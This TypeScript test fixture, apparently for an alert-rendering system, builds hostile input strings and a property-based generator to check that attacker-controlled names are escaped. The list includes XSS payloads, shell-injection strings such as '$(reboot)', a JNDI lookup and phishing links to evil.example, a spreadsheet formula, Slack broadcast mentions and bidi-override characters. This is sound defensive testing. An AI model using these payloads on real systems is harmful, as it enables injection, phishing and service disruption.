import fc from 'fast-check';
import type { AlertMessage } from '../../shared/sinks/sink.ts';
import { alert, opened } from './messages.ts';

/** What attackers put into names, for whoever shows them. */
export const HOSTILE: readonly string[] = [
  '<!channel>',
  '<!here|here> <@U0123456789>',
  '@here @everyone @channel #general',
  '<https://evil.example/login|Acknowledge>',
  'https://evil.example/x?y=1&z=2 evil.example mailto:a@evil.example a@evil.example',
  '*bold* _italic_ ~strike~ `code` ```block```',
  '> quote\n>>> quote',
  ':rotating_light: :white_check_mark:',
  '<!date^1392734382^{date}|x> <#C0123456789|general> <!subteam^S0123456789>',
  '&lt;!channel&gt; &amp;amp;',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '$(reboot) `reboot` ; reboot & reboot | reboot > /dev/null',
  `'; reboot #`,
  '=HYPERLINK("https://evil.example","x")',
  '\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d\ufeff',
  '\u0000\u0007\u001b[2J\u009b31m\r\n\t',
  '\ud800 \udc00 lone',
  '{{ record.secret }} \u0024{jndi:ldap://evil.example/a} %s %n',
  '__proto__ constructor',
  '](https://evil.example) [x](javascript:alert(1))',
  '🚨'.repeat(200),
  'a\u0301'.repeat(500),
  'x'.repeat(1_000_000),
  '&'.repeat(5_000),
  '\u202e'.repeat(5_000),
  '"'.repeat(5_000),
  '\\'.repeat(400),
  '',
  ' ',
];

/** An alert in which every value that an event can choose is this. */
export function alertWith(value: string): AlertMessage {
  return {
    ...opened,
    by: value,
    untilMs: Number.POSITIVE_INFINITY,
    links: { alert: value, event: `javascript:${value}`, proof: `file:///${value}`, runbook: undefined },
    alert: {
      ...alert,
      family: value,
      title: value,
      message: value,
      who: value,
      from: value,
      what: value,
      where: value,
      account: value,
      source: value,
      environment: value,
      // Other than the message, or it would be said only once.
      explanation: {
        sentence: value,
        expected: `${value}!`,
        seen: `!${value}`,
        overEvents: 3,
        overDays: 14,
        precedents: [{ uid: value, index: 1, time: 0 }],
      },
      firstTime: Number.NaN,
      lastTime: 8.64e15,
      rule: {
        uid: value,
        title: value,
        version: value,
        author: value,
        references: [value],
        falsePositives: [value],
      },
      findings: [{ uid: value, index: 1, event: { uid: value, index: 0 } }],
    },
    runbook: {
      title: value,
      owner: value,
      unresolved: [],
      sections: [
        {
          title: value,
          blocks: [
            { kind: 'prose', text: value, changes: false },
            { kind: 'command', text: `x --name='${value}'`, changes: true },
          ],
        },
        { title: value, blocks: [] },
      ],
    },
  };
}

/** The same, for texts put together of what attackers use. */
export const anyHostile: fc.Arbitrary<string> = fc.oneof(
  fc
    .array(
      fc.oneof(
        fc.constantFrom(
          '<',
          '>',
          '&',
          '!',
          '@',
          '#',
          ':',
          '*',
          '_',
          '~',
          '`',
          '|',
          '/',
          '.',
          '\n',
          ' ',
          '"',
          "'",
        ),
        fc.constantFrom(
          'channel',
          'here',
          'U0123',
          'https://',
          'evil.example',
          'mailto:',
          'smile',
          '&lt;',
          '&amp;',
        ),
        fc.constantFrom('\u202e', '\u2066', '\u200b', '\u001b', '\ud800', '\udc00', '🚨', '…', '\u2060'),
      ),
      { maxLength: 40 },
    )
    .map((pieces) => pieces.join('')),
  fc.string({ unit: 'binary', maxLength: 60 }),
);

/** Characters that move, hide or reorder what stands around them, but for the word joiner of our own fallback. */
export const UNSEEN = /[\p{Cc}\p{Surrogate}\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2066-\u206f\ufeff]/u;
